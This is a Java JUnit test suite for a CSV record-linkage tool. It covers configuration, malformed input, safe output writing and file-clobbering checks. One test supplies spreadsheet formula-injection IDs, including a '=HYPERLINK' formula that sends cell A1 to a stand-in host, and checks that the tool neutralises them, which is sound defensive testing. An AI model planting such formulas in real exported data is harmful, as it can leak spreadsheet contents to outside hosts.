package uk.harbour.matching.batch;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LinkCommandTests {

  @TempDir Path dir;
  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
  private final ByteArrayOutputStream err = new ByteArrayOutputStream();

  private static final String HEADER_CONFIG =
      """
      header: true
      date_format: yyyy-MM-dd
      columns:
        id: id
        given_names: first
        family_name: last
        date_of_birth: dob
        postcode: postcode
      """;

  private static final String PEOPLE =
      """
      id,first,last,dob,postcode
      a1,Robert,Allen,2010-06-24,LS6 2QT
      a2,Bob,Allen,2010-06-24,LS6 2QT
      a3,"Mary, Ann",Jones,2012-01-05,M1 1AA
      a4,Marie,Jones,2012-01-05,M1 1AA
      a5,Sam,Patel,2008-09-09,B1 2CD
      """;

  @Test
  void deduplicatesAFileWithAHeaderAndWritesPairsAndClusters() throws IOException {
    int status = linkWithHeaderConfig("0.5", write("people.csv", PEOPLE));
    Path pairs = dir.resolve("pairs.csv");
    Path clusters = dir.resolve("clusters.csv");
    assertThat(status).as(err.toString()).isZero();
    List<String> pairLines = Files.readAllLines(pairs);
    assertThat(pairLines.get(0)).isEqualTo("left_id,right_id,match_probability,match_weight");
    assertThat(pairLines).anyMatch(l -> l.startsWith("a1,a2,"));
    assertThat(pairLines).noneMatch(l -> l.contains("a5"));
    List<String> clusterLines = Files.readAllLines(clusters);
    assertThat(clusterLines).hasSize(6).first().isEqualTo("record_id,cluster_id");
    assertThat(cluster(clusterLines, "a1")).isEqualTo(cluster(clusterLines, "a2"));
    assertThat(cluster(clusterLines, "a5")).isNotEqualTo(cluster(clusterLines, "a1"));
    assertThat(out.toString()).contains("5 records");
    assertNoTempFiles();
  }

  @Test
  void readsHeaderlessFilesWithFebrlSeparatorsByPosition() throws IOException {
    Path input =
        write(
            "febrl.csv",
            """
            rec-1-org, robert, allen, 4, high street, , leeds, 4011, wa, 20100624, 1234567
            rec-1-dup-0, bob, allen, 4, high stret, , leeds, 4011, wa, 20100624, 1234567
            rec-2-org, mary, jones, 9, low road, flat 2, york, 2612, nsw, 20120105, 7654321
            """);
    Path config =
        write(
            "febrl.yml",
            """
            header: false
            date_format: yyyyMMdd
            columns:
              id: 1
              given_names: 2
              family_name: 3
              address: [4, 5, 6]
              attributes: [7, 9]
              postcode: 8
              date_of_birth: 10
              identifiers: [11]
            """);
    Path pairs = dir.resolve("pairs.csv");
    int status = run("--input", input, "--config", config, "--out", pairs, "--threshold", "0.5");
    assertThat(status).as(err.toString()).isZero();
    assertThat(Files.readAllLines(pairs))
        .hasSize(2)
        .element(1)
        .asString()
        .startsWith("rec-1-org,rec-1-dup-0,");
  }

  @Test
  void linksTwoFilesAndNumbersTheInputsInClusters() throws IOException {
    Path left = write("left.csv", PEOPLE);
    Path right =
        write(
            "right.csv",
            """
            id,first,last,dob,postcode
            a1,Robbie,Allen,2010-06-24,LS6 2QT
            b2,Samuel,Patel,2008-09-09,B1 2CD
            """);
    int status = linkWithHeaderConfig("0.5", left, right);
    Path pairs = dir.resolve("pairs.csv");
    Path clusters = dir.resolve("clusters.csv");
    assertThat(status).as(err.toString()).isZero();
    assertThat(Files.readAllLines(pairs))
        .anyMatch(l -> l.startsWith("a1,a1,"))
        .anyMatch(l -> l.startsWith("a5,b2,"));
    assertThat(Files.readAllLines(clusters)).first().isEqualTo("input,record_id,cluster_id");
    assertThat(Files.readAllLines(clusters))
        .hasSize(8)
        .contains("2,b2," + clusterOf(clusters, "1,a5"));
  }

  @Test
  void aMissingColumnIsNamedWithFileAndLine() throws IOException {
    Path input = write("people.csv", PEOPLE.replace("postcode", "post_code"));
    assertRefused(
        input,
        write("columns.yml", HEADER_CONFIG),
        "people.csv line 1: no column named 'postcode'");
  }

  @Test
  void aShortRowIsNamedWithItsLine() throws IOException {
    Path input = write("people.csv", PEOPLE + "a6,Tom\n");
    assertRefused(input, write("columns.yml", HEADER_CONFIG), "people.csv line 7: has 2 fields");
  }

  @Test
  void aRowWithAFieldTooManyIsRefusedNotShifted() throws IOException {
    Path input = write("people.csv", PEOPLE + "a6,Tom,Smith,Jr,2010-01-01,LS1 1AA\n");
    assertRefused(
        input,
        write("columns.yml", HEADER_CONFIG),
        "people.csv line 7: has 6 fields, but the header has 5");
  }

  @Test
  void aHeaderlessRowWithAFieldTooManyIsRefused() throws IOException {
    String row = "rec-1-org, ann, lee, 4, high street, , leeds, 2000, nsw, 19900101, 1234567\n";
    Path input =
        write(
            "febrl.csv",
            row + row.replace("rec-1-org", "rec-1-dup-0").replace("high street", "high, street"));
    Path config =
        write(
            "febrl.yml",
            """
            header: false
            date_format: yyyyMMdd
            columns:
              id: 1
              given_names: 2
              family_name: 3
              date_of_birth: 10
            """);
    assertRefused(input, config, "febrl.csv line 2: has 12 fields, but the first line has 11");
  }

  @Test
  void whenTheSecondOutputCannotBeMovedTheEarlierOutputsAreBothKept() throws IOException {
    Path input = write("people.csv", PEOPLE);
    Path config = write("columns.yml", HEADER_CONFIG);
    Path pairs = write("pairs.csv", "earlier pairs\n");
    Path clusters = write("clusters.csv", "earlier clusters\n");
    LinkCommand.Mover failsIntoClusters =
        (from, to) -> {
          if (to.equals(clusters) && from.getFileName().toString().startsWith(".clusters.csv")) {
            throw new IOException("disk full");
          }
          Files.move(from, to, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        };

    int status =
        new LinkCommand(print(out), print(err), failsIntoClusters)
            .run(
                new String[] {
                  "--input",
                  input.toString(),
                  "--config",
                  config.toString(),
                  "--out",
                  pairs.toString(),
                  "--clusters",
                  clusters.toString()
                });

    assertThat(status).isEqualTo(1);
    assertThat(err.toString()).contains("disk full");
    assertThat(Files.readString(pairs)).isEqualTo("earlier pairs\n");
    assertThat(Files.readString(clusters)).isEqualTo("earlier clusters\n");
    assertNoTempFiles();
  }

  @Test
  void badEncodingIsRefused() throws IOException {
    Path input = dir.resolve("latin1.csv");
    byte[] head = "id,first,last,dob,postcode\na1,Zo".getBytes(StandardCharsets.US_ASCII);
    byte[] tail = ",Allen,2010-06-24,LS6 2QT\n".getBytes(StandardCharsets.US_ASCII);
    try (OutputStream o = Files.newOutputStream(input)) {
      o.write(head);
      o.write(0xEB);
      o.write(tail);
    }
    assertRefused(
        input,
        write("columns.yml", HEADER_CONFIG),
        "latin1.csv line 2: the file is not valid UTF-8");
  }

  @Test
  void anEmptyFileAndAHeaderOnlyFileAreRefused() throws IOException {
    Path config = write("columns.yml", HEADER_CONFIG);
    assertRefused(write("empty.csv", ""), config, "empty.csv: the file is empty");
    assertRefused(
        write("header.csv", "id,first,last,dob,postcode\n"),
        config,
        "header.csv: no records after the header line");
  }

  @Test
  void aHundredMegabyteFieldIsRefusedWithoutReadingItAll() throws IOException {
    Path input = dir.resolve("huge.csv");
    try (OutputStream o = Files.newOutputStream(input)) {
      o.write(
          "id,first,last,dob,postcode\na1,Robert,Allen,2010-06-24,LS6 2QT\na2,"
              .getBytes(StandardCharsets.US_ASCII));
      byte[] block = new byte[1 << 20];
      java.util.Arrays.fill(block, (byte) 'x');
      for (int i = 0; i < 100; i++) {
        o.write(block);
      }
      o.write(",Allen,2010-06-24,LS6 2QT\n".getBytes(StandardCharsets.US_ASCII));
    }
    assertRefused(
        input,
        write("columns.yml", HEADER_CONFIG),
        "huge.csv line 3: field 2 is longer than 1,000,000 characters");
  }

  @Test
  void aRepeatedIdAndAnUnclosedQuoteAreRefused() throws IOException {
    Path config = write("columns.yml", HEADER_CONFIG);
    assertRefused(
        write("dup.csv", PEOPLE + "a1,Tom,Green,2011-01-01,M2 2BB\n"),
        config,
        "dup.csv line 7: id 'a1' appears again (first on line 2)");
    assertRefused(
        write("quote.csv", PEOPLE + "a9,\"Tom,Green,2011-01-01,M2 2BB\n"),
        config,
        "quote.csv line 7: field 2 opens a quote never closed");
  }

  @Test
  void aBadConfigIsRefused() throws IOException {
    Path input = write("people.csv", PEOPLE);
    assertRefused(
        input,
        write("a.yml", "columns:\n  given_names: first\n"),
        "a.yml: columns must include 'id'");
    assertRefused(
        input,
        write("b.yml", "header: false\ncolumns:\n  id: id\n"),
        "b.yml: 'id' names a column but header is false");
    assertRefused(input, write("c.yml", "columns: [unclosed\n"), "c.yml: not valid YAML");
    assertRefused(
        input,
        write("d.yml", "columns:\n  id: id\n  shoe_size: x\n"),
        "d.yml: unknown field 'shoe_size'");
  }

  @Test
  void usageMistakesExitWithTwo() throws IOException {
    assertThat(new LinkCommand(print(out), print(err)).run(new String[] {"--input", "a.csv"}))
        .isEqualTo(2);
    assertThat(err.toString()).contains("--config").contains("Usage: link");
    assertThat(
            new LinkCommand(print(out), print(err))
                .run(
                    new String[] {
                      "--input", "a.csv", "--config", "c.yml", "--out", "p.csv", "--threshold", "7"
                    }))
        .isEqualTo(2);
  }

  @Test
  void anExistingOutputIsLeftAloneWhenInputIsBad() throws IOException {
    Path pairs = write("pairs.csv", "earlier results\n");
    int status =
        run(
            "--input",
            write("empty.csv", ""),
            "--config",
            write("columns.yml", HEADER_CONFIG),
            "--out",
            pairs);
    assertThat(status).isEqualTo(1);
    assertThat(Files.readString(pairs)).isEqualTo("earlier results\n");
  }

  @Test
  void anOutputThatIsAFolderIsRefusedAndLeavesNoTemporaryFiles() throws IOException {
    Path input = write("people.csv", PEOPLE);
    Path config = write("columns.yml", HEADER_CONFIG);
    Path folder = Files.createDirectory(dir.resolve("results"));
    Files.writeString(folder.resolve("kept.txt"), "kept\n");

    for (String option : List.of("--out", "--clusters")) {
      err.reset();
      Path pairs = option.equals("--out") ? folder : dir.resolve("pairs.csv");
      Path clusters = option.equals("--out") ? dir.resolve("clusters.csv") : folder;
      int status =
          run("--input", input, "--config", config, "--out", pairs, "--clusters", clusters);

      assertThat(status).as(option).isEqualTo(LinkCommand.USAGE);
      assertThat(err.toString()).contains(option + " " + folder + " is a folder");
      assertThat(folder).isDirectory();
      assertThat(Files.readString(folder.resolve("kept.txt"))).isEqualTo("kept\n");
      try (Stream<Path> inFolder = Files.list(folder)) {
        assertThat(inFolder).hasSize(1);
      }
      assertThat(dir.resolve("pairs.csv")).doesNotExist();
      assertThat(dir.resolve("clusters.csv")).doesNotExist();
      assertNoTempFiles();
    }
  }

  @Test
  void temporaryFilesAreRemovedWhenTheSecondOutputCannotBeCreated() throws IOException {
    Path input = write("people.csv", PEOPLE);
    Path config = write("columns.yml", HEADER_CONFIG);
    Path pairs = dir.resolve("pairs.csv");
    Path clusters = dir.resolve("no-such-folder").resolve("clusters.csv");

    int status = run("--input", input, "--config", config, "--out", pairs, "--clusters", clusters);

    assertThat(status).isEqualTo(LinkCommand.BAD_INPUT);
    assertThat(err.toString()).contains("could not write output");
    assertThat(pairs).doesNotExist();
    assertNoTempFiles();
  }

  @Test
  void anOutputThatIsOrResolvesToAnInputIsRefusedAndTheInputKept() throws IOException {
    Path input = write("people.csv", PEOPLE);
    Path config = write("columns.yml", HEADER_CONFIG);
    Path link = Files.createSymbolicLink(dir.resolve("latest.csv"), input.getFileName());
    Path sameByAnotherPath = dir.resolve("sub").resolve("..").resolve("people.csv");
    Files.createDirectory(dir.resolve("sub"));

    List<Object[]> attempts =
        List.of(
            new Object[] {"--out", input, "--input"},
            new Object[] {"--out", sameByAnotherPath, "--input"},
            new Object[] {"--out", link, "--input"},
            new Object[] {"--out", config, "--config"},
            new Object[] {"--clusters", input, "--input"});
    for (Object[] attempt : attempts) {
      err.reset();
      Path pairs = attempt[0].equals("--out") ? (Path) attempt[1] : dir.resolve("pairs.csv");
      List<Object> args =
          new java.util.ArrayList<>(List.of("--input", input, "--config", config, "--out", pairs));
      if (attempt[0].equals("--clusters")) {
        args.addAll(List.of("--clusters", attempt[1]));
      }
      int status = run(args.toArray());

      assertThat(status).as(attempt[0] + " " + attempt[1]).isEqualTo(LinkCommand.USAGE);
      assertThat(err.toString())
          .as(attempt[0] + " " + attempt[1])
          .contains(attempt[0] + " " + attempt[1] + " is the same file as " + attempt[2]);
    }
    assertThat(Files.readString(input)).isEqualTo(PEOPLE);
    assertThat(Files.readString(config)).isEqualTo(HEADER_CONFIG);
    assertThat(dir.resolve("pairs.csv")).doesNotExist();
    assertNoTempFiles();
  }

  @Test
  void pairsAndClustersMayNotBeTheSameFile() throws IOException {
    Path input = write("people.csv", PEOPLE);
    Path config = write("columns.yml", HEADER_CONFIG);
    Path out = dir.resolve("out.csv");

    int status = run("--input", input, "--config", config, "--out", out, "--clusters", out);

    assertThat(status).isEqualTo(LinkCommand.USAGE);
    assertThat(err.toString()).contains("--clusters " + out + " is the same file as --out");
    assertThat(out).doesNotExist();
  }

  @Test
  void idsThatASpreadsheetWouldRunAsFormulasAreNeutralised() throws Exception {
    // (ids are read trimmed, so a leading tab or carriage return is shown in CsvWritingTests)
    String risky =
        """
        id,first,last,dob,postcode
        "=HYPERLINK(""http://x.example/?""&A1,""open"")",Robert,Allen,2010-06-24,LS6 2QT
        +44123,Bob,Allen,2010-06-24,LS6 2QT
        -7,Robert,Allen,2010-06-24,LS6 2QT
        @SUM(A1),Rob,Allen,2010-06-24,LS6 2QT
        plain-1,Robert,Allen,2010-06-24,LS6 2QT
        """;
    int status = linkWithHeaderConfig("0.01", write("risky.csv", risky));
    Path pairs = dir.resolve("pairs.csv");
    Path clusters = dir.resolve("clusters.csv");

    assertThat(status).as(err.toString()).isZero();
    List<String> ids = new java.util.ArrayList<>();
    try (CsvReader csv = new CsvReader(clusters, 1000)) {
      for (List<String> row = csv.next(); row != null; row = csv.next()) {
        ids.add(row.get(0));
      }
    }
    assertThat(ids)
        .containsExactlyInAnyOrder(
            "record_id",
            "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
            "'+44123",
            "'-7",
            "'@SUM(A1)",
            "plain-1");
    List<String> pairIds = new java.util.ArrayList<>();
    try (CsvReader csv = new CsvReader(pairs, 1000)) {
      csv.next();
      for (List<String> row = csv.next(); row != null; row = csv.next()) {
        pairIds.addAll(row.subList(0, 2));
      }
    }
    assertThat(pairIds).isNotEmpty().allMatch(id -> id.startsWith("'") || id.equals("plain-1"));
    String written = Files.readString(pairs);
    assertThat(written).contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"");
  }

  private void assertRefused(Path input, Path config, String message) throws IOException {
    err.reset();
    Path pairs = dir.resolve("refused-pairs.csv");
    Path clusters = dir.resolve("refused-clusters.csv");
    int status = run("--input", input, "--config", config, "--out", pairs, "--clusters", clusters);
    assertThat(status).isEqualTo(1);
    assertThat(err.toString()).contains(message);
    assertThat(pairs).doesNotExist();
    assertThat(clusters).doesNotExist();
    assertNoTempFiles();
  }

  private void assertNoTempFiles() throws IOException {
    try (Stream<Path> files = Files.list(dir)) {
      assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".tmp"));
    }
  }

  /**
   * Runs over the inputs with {@link #HEADER_CONFIG} as columns.yml, writing pairs.csv and
   * clusters.csv in the test's folder.
   */
  private int linkWithHeaderConfig(String threshold, Path... inputs) throws IOException {
    List<Object> args = new java.util.ArrayList<>();
    for (Path input : inputs) {
      args.addAll(List.of("--input", input));
    }
    args.addAll(
        List.of(
            "--config",
            write("columns.yml", HEADER_CONFIG),
            "--out",
            dir.resolve("pairs.csv"),
            "--clusters",
            dir.resolve("clusters.csv"),
            "--threshold",
            threshold));
    return run(args.toArray());
  }

  private int run(Object... args) {
    String[] strings = Stream.of(args).map(String::valueOf).toArray(String[]::new);
    return new LinkCommand(print(out), print(err)).run(strings);
  }

  private Path write(String name, String content) throws IOException {
    return Files.writeString(dir.resolve(name), content);
  }

  private static String cluster(List<String> lines, String id) {
    return lines.stream()
        .filter(l -> l.startsWith(id + ","))
        .findFirst()
        .orElseThrow()
        .split(",")[1];
  }

  private static String clusterOf(Path clusters, String prefix) throws IOException {
    String line =
        Files.readAllLines(clusters).stream()
            .filter(l -> l.startsWith(prefix + ","))
            .findFirst()
            .orElseThrow();
    return line.substring(line.lastIndexOf(',') + 1);
  }

  private static PrintStream print(ByteArrayOutputStream bytes) {
    return new PrintStream(bytes, true, StandardCharsets.UTF_8);
  }
}
